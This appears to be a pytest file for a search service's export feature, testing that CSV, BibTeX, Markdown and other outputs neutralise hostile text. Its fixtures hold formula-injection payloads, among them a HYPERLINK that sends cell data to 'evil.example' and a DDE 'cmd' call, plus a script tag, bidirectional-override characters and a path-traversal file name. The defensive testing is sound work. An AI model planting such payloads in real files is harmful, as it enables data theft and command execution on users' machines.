"""A list of hits as a file says what the answer says, whatever characters are in it."""

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from embeddings.artifact import Artifact
from embeddings.encoders import load_encoder
from service.escaping import escape_cell
from service.exporting import COLUMNS, LISTS, name_file
from service.live import Live
from service.query import Query
from service.quoting import FORMS, cite
from service.search import Results, Searcher
from tests.embeddings.building import build, write_files
from tests.service.bibtex import read_fields, split_entries

ASKED = date(2031, 2, 3)
HONEST = "bees honey hive"
HOSTILE = '=bees, "honey" \x00 hive\n@misc{x, % <script>\u202e é*'
NUMBERS = ("rank", "confidence", "score", "page", "start", "end")
TEXTS = (
    '=HYPERLINK("http://evil.example/?a="&A1,"honey of the bees"), said the keeper, twice.',
    'Bees hum, "loudly", in the hive;\nand honey is\r\nkept <script>alert(1)</script> there.',
    "-2+3+cmd|' /C calc'!A0 is no honey, the bees of the hive would say.",
    "\u202eThe honey of bees is turned round in this hive, and never turned back.",
    "\uff1d1+1 counts bees of full width, and \x00 honey in every hive that there is.",
    "'=1+1' is quoted honey, as the bees of this hive keep it.",
    "Honey is what bees keep in a hive, plainly.",
)
TITLES = ('=1+1,"', "@SUM(A1)", "+49 30", "turned\u202e", "＠bees", "*[x](y)", "<script>")
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.fixture(scope="module")
def searcher(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Searcher]:
    """Over documents whose words could do something in one of the forms."""
    rows = "".join(
        json.dumps({"id": f"={number}", "title": title, "author": f"-{title}", "text": text}) + "\n"
        for number, (title, text) in enumerate(zip(TITLES, TEXTS, strict=True))
    )
    folder = write_files(tmp_path_factory.mktemp("hostile"), {"=1,.jsonl": rows})
    artifact = Artifact(tmp_path_factory.mktemp("index"))
    build(folder, artifact)
    live = Live(artifact, load_encoder)
    live.open()
    yield live.searcher
    live.close()


@pytest.fixture(params=[HONEST, HOSTILE], ids=["honest", "hostile"])
def results(request: pytest.FixtureRequest, searcher: Searcher) -> Results:
    found = searcher.search(Query(request.param))
    assert len(found.hits) == len(TEXTS)
    return found


def _is_formula(text: str) -> bool:
    """Whether a cell may be taken for one, as OWASP describes it."""
    return text.lstrip()[:1] in tuple(SIGNS) or text[:1] in ("\t", "\r", "\n")


def _read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), strict=True))


def _write(form: str, results: Results) -> str:
    return LISTS[form].write(results, ASKED)


def test_a_table_read_back_holds_the_hits_but_for_apostrophes(results: Results) -> None:
    rows = _read_csv(_write("csv", results))
    assert [row["rank"] for row in rows] == [str(hit.rank) for hit in results.hits]
    for row, hit in zip(rows, results.hits, strict=True):
        stored, passage = hit.stored, hit.stored.passage
        expected = {
            "title": stored.title,
            "author": stored.author or "",
            "source": stored.source,
            "url": "",
            "date": "",
            "language": passage.language or "",
            "heading": passage.heading or "",
            "text": passage.text,
            "marked": "\n".join(passage.text[s.start : s.end] for s in hit.highlights),
            "also_in": "",
            "passage_id": passage.id,
            "document_id": passage.document_id,
            "question": results.query.text,
            "build": results.build,
            "answer": "true" if hit.answer else "false",
            "comment": "false",
        }
        shown = {name: value.replace("\0", "\ufffd") for name, value in expected.items()}
        for name, value in shown.items():
            assert row[name] in (value, f"'{value}")
            assert not _is_formula(row[name])
            assert _is_formula(value.lstrip("'")) == (row[name] != value)
        assert float(row["score"]) == hit.score and float(row["confidence"]) == hit.confidence
        assert (row["start"], row["end"], row["page"]) == (str(passage.start), str(passage.end), "")


def test_a_table_has_the_columns_in_their_order_and_lines_of_rfc_4180(results: Results) -> None:
    table = _write("csv", results)
    assert table[1:].startswith(",".join(COLUMNS) + "\r\n") and table.endswith("\r\n")
    assert len(_read_csv(table)) == len(results.hits)


def test_a_readers_comment_is_named_as_one_and_not_as_the_authors(searcher: Searcher) -> None:
    found = searcher.search(Query(HONEST, k=1))
    stored = found.hits[0].stored
    said = replace(stored, passage=replace(stored.passage, comment=True, page=3))
    (row,) = _read_csv(_write("csv", replace(found, hits=[replace(found.hits[0], stored=said)])))
    assert stored.author and (row["author"], row["comment"], row["page"]) == ("", "true", "3")


@given(st.text(st.sampled_from(f"{SIGNS}'\"\t\r\n \x00\u200b\u202e\ufeff,;a1"), max_size=8))
def test_no_cell_is_a_formula_and_every_one_can_be_given_back(text: str) -> None:
    table = io.StringIO(newline="")
    csv.writer(table).writerow(["x", escape_cell(text), "y"])
    ((_, cell, _),) = csv.reader(io.StringIO(table.getvalue(), newline=""), strict=True)
    assert not _is_formula(cell) and "\0" not in cell
    taken = cell[1:] if cell[:1] == "'" and escape_cell(cell[1:]) == cell else cell
    assert taken == text.replace("\0", "\ufffd")


@given(st.text())
def test_any_other_cell_is_left_as_it_is(text: str) -> None:
    plain = f"a{text}".replace("\0", "")
    assert escape_cell(plain) == plain


def test_bibtex_holds_an_entry_for_each_hit_and_a_line_that_begins_none(results: Results) -> None:
    before, entries = split_entries(_write("bibtex", results))
    assert before.startswith("% Question: “") and before.count("\n") == 2
    assert before.endswith("\n\n") and "\0" not in before and "\x1b" not in before
    keys = [entry.split("{", 1)[1].split(",", 1)[0] for entry in entries]
    assert keys == [f"winnow-{hit.stored.passage.id}" for hit in results.hits]
    assert all(read_fields(entry)["urldate"] == "2031-02-03" for entry in entries)


def test_csl_json_is_the_list_of_the_hits_citations(results: Results) -> None:
    items = json.loads(_write("csl-json", results))
    assert [item["annote"] for item in items] == [hit.stored.passage.text for hit in results.hits]
    assert {item["custom"]["build"] for item in items} == {results.build}


def test_text_holds_each_hits_citation_below_one_line(results: Results) -> None:
    first, rest = _write("text", results).split("\n\n", 1)
    assert "\n" not in first and "2031-02-03" in first and results.build in first
    cited = [cite(hit.stored, results.build, ASKED) for hit in results.hits]
    assert rest == FORMS["text"].write(cited)


def test_markdown_shows_the_question_and_makes_nothing_of_it(results: Results) -> None:
    shown = MarkdownIt("commonmark").render(_write("markdown", results))
    first = shown.split("\n", 1)[0]
    assert first.startswith("<p>Question: “") and first.endswith("</p>") and first.count("<") == 2
    assert shown.count("<blockquote>") == len(results.hits)
    assert "<script" not in shown


@pytest.mark.parametrize("form", ["text", "markdown", "bibtex"])
def test_a_question_that_turns_the_line_round_is_turned_back(searcher: Searcher, form: str) -> None:
    first = _write(form, searcher.search(Query(HOSTILE))).split("\n", 1)[0]
    assert first.count("\u202e") == 1 and "\u202c”" in first.split("\u202e")[1]


@pytest.mark.parametrize("form", ["text", "markdown", "bibtex"])
def test_the_first_line_says_how_many_may_answer(searcher: Searcher, form: str) -> None:
    found = searcher.search(Query(HOSTILE))
    count = sum(hit.answer for hit in found.hits)
    assert 0 < count < len(TEXTS)
    assert f": {count} of the {len(TEXTS)} that follow.\n" in _write(form, found)
    above = searcher.search(Query(HONEST, k=1))
    assert ": 1 of the 1 that follow.\n" in _write(form, above)
    beyond = searcher.search(Query(HONEST, offset=900))
    assert _write(form, beyond).endswith("There is nothing this far down the list.\n")


@pytest.mark.parametrize("form", ["text", "markdown", "bibtex"])
def test_the_first_line_says_so_where_nothing_answers(searcher: Searcher, form: str) -> None:
    found = searcher.search(Query("zzqzz"))
    assert not found.answered and found.hits
    assert "Nothing here answers this; the nearest passages follow.\n" in _write(form, found)
    none = searcher.search(Query("zzqzz", min_confidence=0.99))
    assert _write(form, none).endswith("Nothing here answers this.\n")


def test_a_list_of_nothing_is_a_file_all_the_same(searcher: Searcher) -> None:
    none = searcher.search(Query(HONEST, offset=900))
    assert _read_csv(_write("csv", none)) == []
    assert json.loads(_write("csl-json", none)) == []


@pytest.mark.parametrize(
    ("question", "name"),
    [
        ("How many ships?", "winnow-how-many-ships.csv"),
        ("Où est l'été?", "winnow-ou-est-l-ete.csv"),
        ("حارس المنارة", "winnow-search.csv"),
        ('../"\r\nx: y', "winnow-x-y.csv"),
        ("word " * 20, "winnow-word-word-word-word-word-word-word-word.csv"),
    ],
)
def test_a_file_is_named_after_the_question_in_ascii(question: str, name: str) -> None:
    assert name_file(question, "csv") == name


@given(st.text())
def test_a_file_name_has_nothing_odd_in_it(question: str) -> None:
    slug = name_file(question, "md").removeprefix("winnow-").removesuffix(".md")
    assert 0 < len(slug) <= 40 and slug.strip("-") == slug
    assert set(slug) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")
